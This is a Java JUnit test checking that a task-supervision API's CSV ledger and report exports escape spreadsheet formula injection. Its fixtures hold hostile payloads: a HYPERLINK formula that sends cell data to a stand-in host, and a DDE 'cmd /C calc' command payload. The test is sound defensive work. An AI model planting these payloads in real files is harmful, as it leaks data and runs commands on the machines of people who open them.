package gov.supervision.web;

import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static gov.supervision.web.ApiFixtures.DUE;
import static gov.supervision.web.ApiFixtures.task;
import static gov.supervision.web.ApiFixtures.with;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Text that a spreadsheet would run as a formula (OWASP "CSV Injection": a cell starting with =, +, -, @, tab or
 * carriage return) reaches every CSV export as plain text: quoted, behind a single quote. Numbers stay numbers.
 */
class CsvInjectionTest extends ApiTestBase {

    private static final String LEAD = "+注入校验局";
    private static final String TITLE = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点击查看\")";
    private static final String LEADER = "@SUM(1+1)*cmd|' /C calc'!A0";

    @Test
    void formulasInTheLedgerAndEveryReportReachTheCsvAsText() {
        String supervisor = tokens.supervisor();
        String taskId = created(api.post("/api/v1/tasks", supervisor,
                with(with(task(TITLE, LEAD), "leaderInCharge", LEADER), "responsiblePerson", "-2+3")));
        version(api.post("/api/v1/tasks/" + taskId + "/claim", tokens.department(LEAD),
                Map.of("responsiblePerson", "-2+3")));
        awaitTask(taskId, 1);

        String ledger = csv("/api/v1/tasks?department=" + encode(LEAD));
        assertThat(ledger).contains("\"'" + TITLE.replace("\"", "\"\"") + "\"", "\"'" + LEAD + "\"",
                "\"'" + LEADER + "\"", "\"'-2+3\"");
        Map<String, String> task = CsvRows.parse(ledger).get(0);
        assertThat(task.get("title")).isEqualTo("'" + TITLE);
        assertThat(task.get("leadDepartment")).isEqualTo("'" + LEAD);
        assertThat(task.get("leaderInCharge")).isEqualTo("'" + LEADER);
        assertThat(task.get("responsiblePerson")).isEqualTo("'-2+3");
        assertThat(task.get("percentComplete")).isEqualTo("0");
        assertThat(task.get("dueDate")).isEqualTo(DUE);

        Map<String, String> unclosed = ApiClient.await(() -> rowOf(csv("/api/v1/reports/year-end?year=2023"), "taskId",
                taskId), row -> row != null);
        assertThat(unclosed).containsEntry("title", "'" + TITLE).containsEntry("leadDepartment", "'" + LEAD)
                .containsEntry("leaderInCharge", "'" + LEADER).containsEntry("percentComplete", "0");
        Map<String, String> assessed = ApiClient.await(() -> rowOf(csv("/api/v1/reports/departments?year=2023"),
                "department", "'" + LEAD), row -> row != null);
        assertThat(assessed.get("score")).as("a number the product computes stays a number").doesNotStartWith("'");
        Map<String, String> briefed = ApiClient.await(() -> rowOf(csv("/api/v1/reports/periodic?period=2023-Q1"),
                "department", "'" + LEAD), row -> row != null);
        assertThat(briefed.get("newTasks")).isEqualTo("1");
    }

    private String csv(String path) {
        ApiClient.Response answer = api.get(path, tokens.supervisor(), "Accept", "text/csv");
        assertThat(answer.status()).as(answer.toString()).isEqualTo(200);
        return new String(answer.raw(), StandardCharsets.UTF_8).substring(1);
    }

    private static Map<String, String> rowOf(String csv, String column, String value) {
        List<Map<String, String>> rows = CsvRows.parse(csv);
        return rows.stream().filter(row -> value.equals(row.get(column))).findFirst().orElse(null);
    }
}
